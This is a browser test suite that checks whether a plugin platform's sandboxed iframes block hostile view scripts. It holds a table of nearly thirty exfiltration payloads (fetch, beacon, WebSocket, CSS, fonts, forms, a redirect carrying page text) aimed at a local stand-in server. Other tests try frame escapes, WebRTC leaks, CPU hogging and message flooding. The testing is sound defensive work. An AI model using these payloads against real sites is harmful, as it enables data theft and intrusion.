import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { createServer } from 'node:http'
import { type AddressInfo, createServer as createTcpServer } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Browser, BrowserContext, Frame, Page } from 'playwright-core'
import {
  afterAll,
  afterEach,
  beforeAll,
  beforeEach,
  describe,
  expect,
  onTestFinished,
  test,
  vi,
} from 'vitest'
import { type Stranger, signedIn, startBrowser, startStranger } from '../support/browser.ts'
import { startHost, type TestHost } from '../support/host.ts'
import { longTest } from '../support/long.ts'

let lyceum: TestHost
let browser: Browser
let stranger: Stranger
let context: BrowserContext
let page: Page

/** Views are published once; what their scripts do is a parameter. */
const PLUGIN = `
  import { html, t, view } from '@lyceum/sdk'
  export const markup = view({ params: { inside: t.string({ max: 8000 }) } }, ({ params }) => html.raw(params.inside))`

beforeAll(async () => {
  ;[lyceum, browser, stranger] = await Promise.all([startHost(), startBrowser(), startStranger()])
  expect((await lyceum.publish('hostile', PLUGIN)).status).toBe(201)
})
afterAll(async () => {
  stranger.close()
  await browser.close()
  await lyceum.dispose()
})

beforeEach(async () => {
  stranger.heard.length = 0
  context = await signedIn(browser, lyceum, { role: 'admin', user: 'carol' })
  page = await context.newPage()
})
afterEach(() => context.close())

const addressOf = (inside: string) => `/views/hostile/markup?inside=${encodeURIComponent(inside)}`

/** Opens a view with this inside, and gives its frame. */
async function show(inside: string): Promise<Frame> {
  await page.goto(addressOf(inside))
  return frameOf(page)
}

function frameOf(shown: Page): Frame {
  const frame = shown.frames()[1]
  if (frame === undefined) throw new Error('the page has no frame')
  return frame
}

/** That the outer page is where it was and still answers. */
async function expectPageUnharmed(): Promise<void> {
  expect(new URL(page.url()).pathname).toBe('/views/hostile/markup')
  expect(await page.title()).toBe('Markup · Lyceum')
}

/** Ways to tell a stranger something. Each begins its address with the way's name. */
const WAYS: Record<string, (to: string) => string> = {
  fetch: (to) => `<script>fetch('${to}', { mode: 'no-cors' }).catch(() => {})</script>`,
  keepalive: (to) => `<script>fetch('${to}', { mode: 'no-cors', keepalive: true }).catch(() => {})</script>`,
  xhr: (to) => `<script>const x = new XMLHttpRequest(); x.open('GET', '${to}'); x.send()</script>`,
  beacon: (to) => `<script>navigator.sendBeacon('${to}', 'x')</script>`,
  websocket: (to) => `<script>new WebSocket('${to}'.replace('http', 'ws'))</script>`,
  eventsource: (to) => `<script>new EventSource('${to}')</script>`,
  image: (to) => `<img src="${to}">`,
  video: (to) => `<video src="${to}" preload="auto"></video>`,
  svg: (to) => `<svg><image href="${to}"/></svg>`,
  background: (to) => `<div style="background: url(${to})">x</div>`,
  import: (to) => `<style>@import url(${to});</style>`,
  font: (to) => `<style>@font-face { font-family: f; src: url(${to}) } p { font-family: f }</style><p>x</p>`,
  stylesheet: (to) => `<link rel="stylesheet" href="${to}">`,
  script: (to) => `<script src="${to}"></script>`,
  module: (to) => `<script type="module">import('${to}').catch(() => {})</script>`,
  preload: (to) => `<link rel="preload" as="script" href="${to}">`,
  prefetch: (to) => `<link rel="prefetch" href="${to}">`,
  object: (to) => `<object data="${to}"></object>`,
  embed: (to) => `<embed src="${to}">`,
  frame: (to) => `<iframe src="${to}"></iframe>`,
  srcdoc: (to) => `<iframe srcdoc="<img src='${to}'><script>fetch('${to}')</script>"></iframe>`,
  worker: (to) => `<script>new Worker(URL.createObjectURL(new Blob(["fetch('${to}')"])))</script>`,
  ping: (to) => `<a id="a" href="#x" ping="${to}">x</a><script>document.getElementById('a').click()</script>`,
  form: (to) =>
    `<form id="f" method="post" action="${to}"></form><script>document.getElementById('f').submit()</script>`,
  refresh: (to) => `<meta http-equiv="refresh" content="0;url=${to}">`,
  location: (to) => `<script>location = '${to}?' + document.body.innerText</script>`,
  link: (to) => `<a id="a" href="${to}">x</a><script>document.getElementById('a').click()</script>`,
  blob: (to) =>
    `<script>location = URL.createObjectURL(new Blob(['<img src="${to}">'], { type: 'text/html' }))</script>`,
}

describe('a view tells nobody what it knows', () => {
  const waysTo = (port: number) =>
    Object.entries(WAYS).map(([way, inside]) => ({ way, inside: inside(`http://127.0.0.1:${port}/${way}`) }))
  const heardWays = () => new Set(stranger.heard.map((text) => /^\w+ \/(\w+)/.exec(text)?.[1]))

  test('a page without our policy reaches a stranger in each of these ways', {
    timeout: 60_000,
  }, async () => {
    let inside = ''
    const plain = createServer((_, answer) => answer.setHeader('content-type', 'text/html').end(inside))
    plain.listen(0, '127.0.0.1')
    onTestFinished(() => void plain.close())
    await once(plain, 'listening')
    const { port } = plain.address() as AddressInfo
    for (const way of waysTo(stranger.port)) {
      inside = `<!doctype html><body>${way.inside}`
      await page.goto(`http://127.0.0.1:${port}/`, { waitUntil: 'commit' })
      await vi.waitFor(() => expect(heardWays()).toContain(way.way), { timeout: 20_000 })
    }
  })

  longTest('in none of them does a view reach a stranger or the host', async () => {
    const requested: string[] = []
    context.on('requestfinished', (request) => requested.push(new URL(request.url()).pathname))
    const own = Number(new URL(lyceum.url).port)
    for (const { inside } of [...waysTo(stranger.port), ...waysTo(own)]) {
      await page.goto(addressOf(inside))
      // Long enough for every way above to be tried.
      await sleep(150)
      await expectPageUnharmed()
    }
    expect(stranger.heard).toEqual([])
    // The page around asks for progress where the view takes a second.
    const unexpected = requested.filter((path) => !/^\/(?:views|frames|assets|progress)\//.test(path))
    // A form or link to the host itself may be followed inside the frame, without the person's cookie.
    expect(unexpected.filter((path) => !['/form', '/refresh', '/location', '/link'].includes(path))).toEqual(
      [],
    )
  })

  test.each([
    ['itself', (script: string) => `<script>${script}</script>`],
    ['a frame inside it', (script: string) => `<iframe srcdoc="<script>${script}</script>"></iframe>`],
  ])('WebRTC does not leave the browser, by %s', async (_, wrap) => {
    // Strangers of their own for the page without our policy: what it says late would be laid to the view.
    const [openly, secretly] = await Promise.all([startPeers(), startPeers()])
    const script = (
      to: Peers,
    ) => `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${to.stunPort}' },
      { urls: 'turn:127.0.0.1:${to.turnPort}?transport=tcp', username: 'secret', credential: 'x' }] });
      p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))`
    const plain = createServer((_, answer) =>
      answer.setHeader('content-type', 'text/html').end(`<script>${script(openly)}</script>`),
    )
    plain.listen(0, '127.0.0.1')
    onTestFinished(() => void plain.close())
    await once(plain, 'listening')
    const control = await context.newPage()
    await control.goto(`http://127.0.0.1:${(plain.address() as AddressInfo).port}/`)
    await vi.waitFor(() => expect([...openly.heard].sort()).toEqual(['stun', 'turn']), { timeout: 20_000 })
    await control.close()
    // The browser may end the frame's process for trying, so the page is not waited for.
    await page.goto(addressOf(wrap(script(secretly))), { waitUntil: 'commit' })
    await sleep(1_000)
    expect([...secretly.heard]).toEqual([])
  })
})

interface Peers {
  readonly stunPort: number
  readonly turnPort: number
  readonly heard: ReadonlySet<'stun' | 'turn'>
}

/** A STUN and a TURN server, which only tell whether anybody spoke to them. */
async function startPeers(): Promise<Peers> {
  const heard = new Set<'stun' | 'turn'>()
  const stun = createSocket('udp4', () => heard.add('stun'))
  const turn = createTcpServer((socket) => {
    heard.add('turn')
    socket.on('error', () => {}) // the browser hangs up when its page closes
  })
  stun.bind(0, '127.0.0.1')
  turn.listen(0, '127.0.0.1')
  onTestFinished(() => {
    stun.close()
    turn.close()
  })
  await Promise.all([once(stun, 'listening'), once(turn, 'listening')])
  return { stunPort: stun.address().port, turnPort: (turn.address() as AddressInfo).port, heard }
}

describe('a view stays in its frame', () => {
  test('and knows nothing of the page, the person or the browser', async () => {
    const frame = await show(`<p>here</p>`)
    const found = await frame.evaluate(() => {
      const attempts = {
        page: () => parent.document.title,
        pageAddress: () => parent.location.href,
        cookies: () => document.cookie,
        local: () => localStorage.length,
        session: () => sessionStorage.length,
        databases: () => indexedDB.open('x'),
        worker: () => navigator.serviceWorker.register('/x.js'),
      }
      return Object.entries(attempts).map(([name, attempt]) => {
        try {
          return [name, String(attempt())]
        } catch (error) {
          return [name, error instanceof DOMException ? error.name : String(error)]
        }
      })
    })
    expect(found.map(([name, outcome]) => [name, outcome])).toEqual(
      ['page', 'pageAddress', 'cookies', 'local', 'session', 'databases', 'worker'].map((name) => [
        name,
        'SecurityError',
      ]),
    )
    expect(await frame.evaluate(() => [origin, document.referrer])).toEqual(['null', ''])
  })

  test('and cannot read from its own address who looks at it', async () => {
    const frame = await show('<p>here</p>')
    const [path] = await frame.evaluate(() => [location.pathname])
    const parts = (path ?? '').replace('/frames/', '').split('.')
    expect(parts).toHaveLength(2)
    const readable = parts.map((part) => Buffer.from(part, 'base64url').toString('latin1')).join()
    expect(readable).not.toContain('carol')
    expect(readable).not.toContain('admin')
  })

  test('opens no window, moves no other, downloads and asks nothing', async () => {
    const surprises: string[] = []
    context.on('page', (opened) => surprises.push(`window ${opened.url()}`))
    page.on('download', (download) => surprises.push(`download ${download.url()}`))
    page.on('dialog', (dialog) => {
      surprises.push(`dialog ${dialog.message()}`)
      void dialog.dismiss()
    })
    const to = `http://127.0.0.1:${stranger.port}/`
    const frame = await show(`
      <a id="top" target="_top" href="${to}top">x</a> <a id="blank" target="_blank" href="${to}blank">x</a>
      <a id="parent" target="_parent" href="${to}parent">x</a>
      <a id="file" download="x.txt" href="data:text/plain,secret">x</a>
      <form id="form" target="_top" action="${to}form"></form>
      <script>
        const tried = []
        const attempt = (what) => { try { tried.push(String(what())) } catch (error) { tried.push(error.name) } }
        attempt(() => window.open('${to}popup'))
        attempt(() => { top.location = '${to}top' })
        attempt(() => parent.location.replace('${to}parent'))
        attempt(() => { alert('a'); confirm('b'); print() })
        for (const id of ['top', 'blank', 'parent', 'file']) document.getElementById(id).click()
        document.getElementById('form').requestSubmit()
        history.back()
        document.body.append('tried ' + tried.join())
      </script>`)
    await frame.getByText('tried null,SecurityError,SecurityError,undefined').waitFor()
    // With a person's click behind it, too.
    for (const id of ['top', 'blank', 'parent', 'file']) await frame.locator(`#${id}`).click()
    await sleep(300)
    await expectPageUnharmed()
    expect(surprises).toEqual([])
    expect(stranger.heard).toEqual([])
  })

  test('in whatever way it moves itself', async () => {
    for (const script of [
      "location = 'about:blank'",
      "location = 'data:text/html,x'",
      `location = '${lyceum.url}/'`,
    ]) {
      await page.goto(addressOf(`<script>${script}</script>`))
      await sleep(150)
      await expectPageUnharmed()
      // Nothing of the host shows inside the frame: neither the page nor what a cookie would open.
      const text = await frameOf(page)
        .evaluate(() => document.body?.innerText ?? '')
        .catch(() => '')
      expect(text).not.toContain('Signed in')
    }
  })

  test('alone keeps its processor busy', async () => {
    await page.goto(addressOf('<script>setTimeout(() => { for (;;); }, 50)</script>'), {
      waitUntil: 'commit',
    })
    await sleep(300)
    await page.getByRole('link', { name: 'All views' }).click()
    await page.getByRole('heading', { name: 'Views', exact: true }).waitFor()
  })
})

describe('the height of a frame', () => {
  const heightOf = () => page.locator('iframe').evaluate((frame) => frame.getBoundingClientRect().height)

  test('is that of the view, and follows it', async () => {
    const frame = await show('<div id="box" style="height: 700px"></div>')
    await vi.waitFor(async () => expect(await heightOf()).toBeGreaterThan(700), 20_000)
    expect(await heightOf()).toBeLessThan(800)
    await frame.evaluate(() => document.getElementById('box')?.style.setProperty('height', '300px'))
    await vi.waitFor(async () => expect(await heightOf()).toBeLessThan(400), 20_000)
    expect(await heightOf()).toBeGreaterThan(300)
  })

  test.each([
    [1e12, 20_000],
    [-5, 50],
    [0, 50],
  ])('stays within bounds when a view asks for %d', async (asked, given) => {
    await show(`<script>parent.postMessage({ lyceumHeight: ${asked} }, '*')</script><script>
      addEventListener('load', () => parent.postMessage({ lyceumHeight: ${asked} }, '*'))</script>`)
    await vi.waitFor(async () => expect(await heightOf()).toBe(given), 20_000)
  })

  test('is the only thing that a message changes, if it has the one shape', async () => {
    const frame = await show('<p>short</p>')
    await vi.waitFor(async () => expect(await heightOf()).toBeLessThan(150), 20_000)
    const before = await page.content()
    await frame.evaluate(() => {
      const messages = [
        null,
        'x',
        7,
        [9000],
        { height: 9000 },
        { lyceumHeight: '9000' },
        { lyceumHeight: NaN },
      ]
      for (const message of [...messages, { lyceumHeight: Infinity }, { lyceumHeight: { valueOf: 9000 } }])
        parent.postMessage(message, '*')
    })
    await page.evaluate(() => postMessage({ lyceumHeight: 9000 }, '*'))
    await sleep(300)
    expect(await page.content()).toBe(before)
  })

  longTest(
    'no longer matters once a view floods the page: it is taken away, and the page goes on',
    async () => {
      await page.goto(
        addressOf(`<script>setTimeout(() => {
        for (let i = 0; i < 1_000_000; i++) parent.postMessage({ lyceumHeight: i }, '*') }, 100)</script>`),
      )
      await page.getByText('This view was stopped: it flooded the page').waitFor({ timeout: 20_000 })
      expect(await page.locator('iframe').count()).toBe(0)
      await page.getByRole('link', { name: 'All views' }).click()
      await page.getByRole('heading', { name: 'Views', exact: true }).waitFor()
    },
  )
})

describe('the address of a frame', () => {
  const frameAddress = async () => {
    await page.goto(addressOf('<p>here</p>'))
    return (await page.locator('iframe').getAttribute('src')) ?? ''
  }

  test('shows nothing as a page of its own', async () => {
    const answer = await page.goto(await frameAddress())
    expect(answer?.status()).toBe(400)
    expect(await page.content()).not.toContain('<p>here</p>')
  })

  test('needs no cookie, and carries the policy', async () => {
    const answer = await fetch(lyceum.url + (await frameAddress()))
    expect(await answer.text()).toContain('<p>here</p>')
    const name = new URL(lyceum.url).host
    expect(answer.headers.get('content-security-policy')).toBe(
      "sandbox allow-scripts; default-src 'none'; script-src 'unsafe-inline'; style-src 'unsafe-inline'; " +
        `img-src data: ${name}/files/; font-src data:; form-action 'none'; base-uri 'none'; frame-ancestors 'self'`,
    )
    expect(answer.headers.get('connection-allowlist')).toBe(
      `("https://${name}/files/*" "http://${name}/files/*")`,
    )
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
    expect(answer.headers.get('referrer-policy')).toBe('no-referrer')
    expect(answer.headers.get('cache-control')).toBe('no-store')
  })

  test.each(['x', 'a.b.c.d.e'])('cannot be made up: %s', async (ticket) => {
    const answer = await fetch(`${lyceum.url}/frames/${ticket}`)
    expect(answer.status).toBe(401)
    expect(answer.headers.get('content-security-policy')).toContain('sandbox allow-scripts')
    expect(await answer.text()).toContain('token_invalid')
  })
})
